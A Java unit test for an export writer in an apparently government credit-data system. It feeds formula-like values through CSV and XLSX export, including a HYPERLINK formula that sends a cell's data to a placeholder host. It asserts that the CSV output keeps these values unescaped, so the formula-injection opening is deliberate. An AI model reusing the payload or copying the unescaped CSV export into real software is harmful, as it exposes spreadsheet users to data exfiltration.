package cn.gov.amr.credit.ingestion.files;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;

import org.apache.commons.csv.CSVFormat;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Exports are in the national exchange format, read by upper-level systems: every value is written
 * exactly, also one a spreadsheet would take for a formula (people's CSV files escape those).
 */
class ExportWriterTest {

    private static final List<String> VALUES = List.of("=HYPERLINK(\"http://x/?\"&A1,\"详情\")", "+1", "-2", "@x",
            "\tx", "\rx", "警告");

    @ParameterizedTest
    @ValueSource(strings = {"CSV", "XLSX"})
    void valuesThatLookLikeFormulasAreExportedExactly(String format) throws IOException {
        byte[] content;
        try (var writer = new ExportWriter(format, List.of("a", "b", "c", "d", "e", "f", "g"))) {
            writer.row(VALUES);
            content = writer.toBytes();
        }
        assertThat(written(format, content)).isEqualTo(VALUES);
    }

    private static List<String> written(String format, byte[] content) throws IOException {
        if ("CSV".equals(format)) {
            String text = new String(content, StandardCharsets.UTF_8).substring(1); // the byte-order mark
            try (var parser = CSVFormat.DEFAULT.parse(new StringReader(text))) {
                return parser.getRecords().get(1).toList();
            }
        }
        try (var workbook = new XSSFWorkbook(new ByteArrayInputStream(content))) {
            var row = workbook.getSheetAt(0).getRow(1);
            var cells = new String[VALUES.size()];
            for (int i = 0; i < cells.length; i++) {
                assertThat(row.getCell(i).getCellType()).as("typed text, never a formula").isEqualTo(CellType.STRING);
                cells[i] = row.getCell(i).getStringCellValue();
            }
            return Arrays.asList(cells);
        }
    }
}
